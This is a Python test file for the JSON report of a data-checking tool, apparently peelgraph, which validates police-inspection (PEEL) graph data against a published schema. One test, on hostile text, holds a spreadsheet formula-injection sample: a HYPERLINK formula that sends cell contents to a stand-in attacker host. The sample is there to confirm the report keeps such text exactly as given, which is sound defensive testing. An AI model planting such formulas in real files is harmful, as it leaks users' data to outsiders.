"""JSON: valid by the published schema, which describes every member, whole and exact."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from jsonschema import Draft202012Validator

from builder import __version__
from builder.checking.findings import CheckResult, Severity
from builder.namespaces import PEELID, PEELSH
from builder.reporting.data import SCHEMA, VERSION, render
from tests.reporting.sample import HOSTILE, LEICESTERSHIRE, broken, clean, sample
from tests.reporting.strategies import BROKEN, CHECKS, UNSEEN

PUBLISHED: dict[str, Any] = json.loads(
    (Path(__file__).resolve().parents[2] / "docs/reference/check-report.schema.json").read_text(encoding="utf-8")
)


def closed(schema: Any) -> Any:
    """The schema without room for members that it does not describe."""
    if isinstance(schema, list):
        return [closed(each) for each in schema]
    if not isinstance(schema, dict):
        return schema
    inner = {name: closed(value) for name, value in schema.items()}
    return inner | {"additionalProperties": False} if isinstance(schema.get("properties"), dict) else inner


VALIDATOR = Draft202012Validator(closed(PUBLISHED), format_checker=Draft202012Validator.FORMAT_CHECKER)


def report(result: CheckResult, level: Severity = Severity.VIOLATION) -> dict[str, Any]:
    read = json.loads(render(result, level))
    assert [error.message for error in VALIDATOR.iter_errors(read)] == []
    assert isinstance(read, dict)
    return read


def of_number(read: dict[str, Any], number: int) -> dict[str, Any]:
    (found,) = (each for each in read["findings"] if each["fingerprint"] == f"{number:032x}")
    assert isinstance(found, dict)
    return found


def test_the_schema_is_one() -> None:
    Draft202012Validator.check_schema(PUBLISHED)
    assert PUBLISHED["$id"] == PUBLISHED["properties"]["$schema"]["const"] == SCHEMA
    assert PUBLISHED["properties"]["version"]["const"] == VERSION


@pytest.mark.parametrize(
    "change",
    [
        {"verdict": "fine"},
        {"version": 2},
        {"findings": [{}]},
        {"exit": {"code": 3, "failOn": "violation", "meaning": ""}},
        {"unreached": [1]},
        {"more": 1},
    ],
)
def test_the_schema_refuses(change: dict[str, Any]) -> None:
    assert not VALIDATOR.is_valid(report(sample()) | change)


def test_a_finding() -> None:
    assert of_number(report(sample()), 1) == {
        "severity": "violation",
        "rule": "Judgment-grade",
        "message": "A judgment has a grade of a scheme.",
        "focus": PEELID + "judgment/peel-2017/leicestershire/efficiency",
        "label": "Leicestershire Police, PEEL 2017, efficiency",
        "path": "peel:grade",
        "value": PEELID + "force/leicestershire",
        "found": "a link to Leicestershire Police (force/leicestershire), which is of the class `peel:Force` (police "
        "force)",
        "expected": "a link to a thing of the class `peel:Grade` (grade)",
        "remedy": "Link to a `peel:Grade`, or say that Leicestershire Police is one.",
        "fingerprint": "00000000000000000000000000000001",
        "place": {"file": LEICESTERSHIRE, "line": 63, "column": 71},
        "subject": {"file": LEICESTERSHIRE, "line": 63, "column": 5},
        "shacl": {
            "shape": PEELSH + "Judgment-grade",
            "constraint": None,
            "component": "http://www.w3.org/ns/shacl#ClassConstraintComponent",
            "path": "<https://w3id.org/peelgraph/def/grade>",
            "value": f"<{PEELID}force/leicestershire>",
        },
    }


def test_everything_about_the_check() -> None:
    read = report(sample())
    assert read["tool"] == {"name": "peelgraph", "version": __version__}
    assert read["verdict"] == "failed"
    assert read["exit"] == {"code": 1, "failOn": "violation", "meaning": "findings at or above the chosen level"}
    assert read["counts"] == {
        "findings": {"violation": 15, "warning": 2, "info": 3},
        "waived": 1,
        "mended": 1,
        "shapes": 5,
        "unreached": 2,
        "things": 1505,
    }
    assert len(read["findings"]) == 20
    assert read["unreached"] == ["Response", "SurveyResult"]
    assert read["notes"] == ["Not checked: <https://example.org/vocabulary> is imported and not at hand."]


def test_the_baseline() -> None:
    read = report(sample())
    (known,) = read["waived"]
    assert known["finding"]["label"] == "Heddlu Dyfed-Powys"
    assert known["waiver"] == {
        "fingerprint": "00000000000000000000000000000009",
        "rule": "Force-label",
        "thing": "Heddlu Dyfed-Powys",
        "reason": "The force asks for its Welsh name.",
        "until": "2027-06-30",
        "place": {"file": "known.yaml", "line": 3, "column": 5},
    }
    assert [each["thing"] for each in read["mended"]] == ["Response of the Home Office"]


def test_rules_tell_what_passed() -> None:
    rules = {rule["name"]: rule for rule in report(sample())["rules"]}
    assert list(rules) == sorted(rules)
    assert {name: (rule["lookedAt"], rule["findings"], rule["waived"]) for name, rule in rules.items()} == {
        "Force-label": (45, 0, 1),
        "Judgment": (128, 0, 0),
        "Judgment-grade": (128, 2, 0),
        "JudgmentScheme": (128, 2, 0),
        "Observation-value": (310, 13, 0),
        "Person-note": (22, 3, 0),
        "Response-published": (0, 0, 0),
        "SurveyResult": (0, 0, 0),
    }
    assert rules["JudgmentScheme"]["message"] == "{?label} has a grade that its cycle does not know."
    assert rules["Response-published"]["place"] is None


def test_unknown_places_are_null() -> None:
    read = report(sample())
    assert of_number(read, 7)["place"] is None
    assert of_number(read, 8)["place"] == {"file": "data/notes.trig", "line": None, "column": None}


def test_broken_sources() -> None:
    read = report(broken())
    assert read["verdict"] == "broken"
    assert read["exit"]["code"] == 4
    assert {each["shacl"] for each in read["findings"]} == {None}
    assert [(rule["name"], rule["iri"], rule["findings"]) for rule in read["rules"]] == [
        ("seeds", None, 2),
        ("syntax", None, 1),
    ]


@pytest.mark.parametrize(("level", "code"), [("violation", 0), ("warning", 1), ("info", 1)])
def test_what_fails_the_check(level: str, code: int) -> None:
    warning = next(each for each in sample().findings if each.severity is Severity.WARNING)
    read = report(CheckResult((warning,)), Severity(level))
    assert (read["exit"]["code"], read["exit"]["failOn"]) == (code, level)
    assert read["verdict"] == ("failed" if code else "passed")
    assert report(clean(), Severity(level))["verdict"] == "passed"


def test_hostile_texts_are_exact() -> None:
    found = of_number(report(sample()), 6)
    assert found["label"] == HOSTILE
    assert found["value"] == f'=HYPERLINK("https://evil.example/?"&A1,"p")\n{HOSTILE}'


@given(CHECKS | BROKEN, st.sampled_from(Severity))
def test_any_result(result: CheckResult, level: Severity) -> None:
    text = render(result, level)
    read = json.loads(text)
    assert [error.message for error in VALIDATOR.iter_errors(read)] == []
    assert [each["message"] or "" for each in read["findings"]] == [each.message for each in result.findings]
    assert [each["label"] or "" for each in read["findings"]] == [each.label for each in result.findings]
    assert [rule["name"] for rule in read["rules"]] == sorted({rule["name"] for rule in read["rules"]})
    assert {each["rule"] for each in read["findings"]} <= {rule["name"] for rule in read["rules"]}
    assert not {sign for sign in UNSEEN if sign in text}
